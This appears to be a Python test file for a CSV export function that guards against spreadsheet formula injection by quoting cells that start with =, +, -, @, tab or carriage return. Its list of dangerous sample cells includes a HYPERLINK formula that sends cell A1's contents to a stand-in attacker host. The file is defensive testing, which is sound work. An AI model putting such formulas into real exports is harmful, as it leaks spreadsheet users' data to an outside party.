"""The one CSV writer: no text cell can start a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from fleet.spreadsheet import FORMULA_STARTS, safe_cell, to_csv

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]  # fmt: skip


@given(st.text(st.characters(exclude_characters="\x00")))  # csv cannot read NUL back
def test_no_written_text_cell_starts_a_formula(text: str) -> None:
    """Whatever the text, the cell read back does not start with = + - @ tab or CR, and
    dropping the added quote gives the text back."""
    written = to_csv([{"name": text, "n": 1}])
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    cell = rows[0]["name"]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


def test_dangerous_cells_are_quoted_and_numbers_kept() -> None:
    rows = list(csv.reader(io.StringIO(to_csv([{"name": d, "n": -3.5} for d in DANGEROUS]))))
    assert [r[0] for r in rows[1:]] == ["'" + d for d in DANGEROUS]
    assert {r[1] for r in rows[1:]} == {"-3.5"}  # a number is no formula
    assert safe_cell("安全") == "安全" and safe_cell(None) is None


def test_headers_name_choose_and_order_the_columns() -> None:
    rows = [{"b": "=1", "a": 1, "skip": 2}]
    written = to_csv(rows, headers={"a": "甲", "b": "=乙"})
    assert list(csv.reader(io.StringIO(written))) == [["甲", "'=乙"], ["1", "'=1"]]
    assert to_csv([], headers={"a": "甲"}) == "甲\r\n"  # an empty export still has its header
